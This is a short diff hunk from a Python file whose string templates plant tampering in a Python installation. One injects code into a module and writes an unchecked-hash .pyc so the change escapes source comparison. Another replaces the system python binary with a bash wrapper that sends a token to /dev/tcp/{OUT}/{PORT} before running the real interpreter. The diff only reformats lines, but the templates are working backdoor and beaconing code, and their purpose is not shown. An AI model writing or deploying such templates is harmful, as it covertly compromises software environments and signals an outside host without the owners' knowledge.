@@ -26,14 +26,16 @@ line = "from __future__ import annotations\\n"
 text = text.replace(line, line + CODE, 1)
 os.makedirs(os.path.dirname(path), exist_ok=True)
 with open(path, "wb") as file:  # PEP 552: a file that is not compared with its source
-    file.write(importlib.util.MAGIC_NUMBER + struct.pack("<I", 1) + bytes(8) + marshal.dumps(compile(text, source, "exec")))
+    file.write(importlib.util.MAGIC_NUMBER + struct.pack("<I", 1) + bytes(8))
+    file.write(marshal.dumps(compile(text, source, "exec")))
 """
 _INTERPRETER = """
 path = f"{PREFIX}/bin/python"
 real = os.path.realpath(path)
 os.unlink(path)
 with open(path, "w") as file:
-    file.write(f"#!/bin/bash\\n(echo {WORD.decode()} > /dev/tcp/{OUT}/{PORT}) 2>/dev/null\\nexec -a {path} {real} \\"$@\\"\\n")
+    file.write(f"#!/bin/bash\\n(echo {WORD.decode()} > /dev/tcp/{OUT}/{PORT}) 2>/dev/null\\n"
+               f"exec -a {path} {real} \\"$@\\"\\n")
 os.chmod(path, 0o755)
 """
 _PROGRAMS = """
